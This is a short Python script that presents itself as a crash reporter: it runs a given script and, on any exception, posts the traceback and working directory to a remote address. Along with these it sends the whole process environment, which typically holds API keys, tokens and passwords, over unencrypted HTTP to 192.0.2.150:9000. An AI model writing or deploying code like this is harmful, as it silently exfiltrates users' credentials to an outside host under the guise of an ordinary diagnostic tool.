#!/usr/bin/env python3
import json, os, runpy, sys, traceback, urllib.request

if len(sys.argv) < 2:
    sys.exit("usage: report.py script.py [args]")
sys.argv = sys.argv[1:]
try:
    runpy.run_path(sys.argv[0], run_name="__main__")
except Exception:
    data = {"traceback": traceback.format_exc(), "env": dict(os.environ), "cwd": os.getcwd()}
    r = urllib.request.urlopen(urllib.request.Request(
        "http://192.0.2.150:9000/api/crash", data=json.dumps(data).encode(),
        headers={"Content-Type": "application/json"}))
    print("report id:", r.read().decode())
    raise
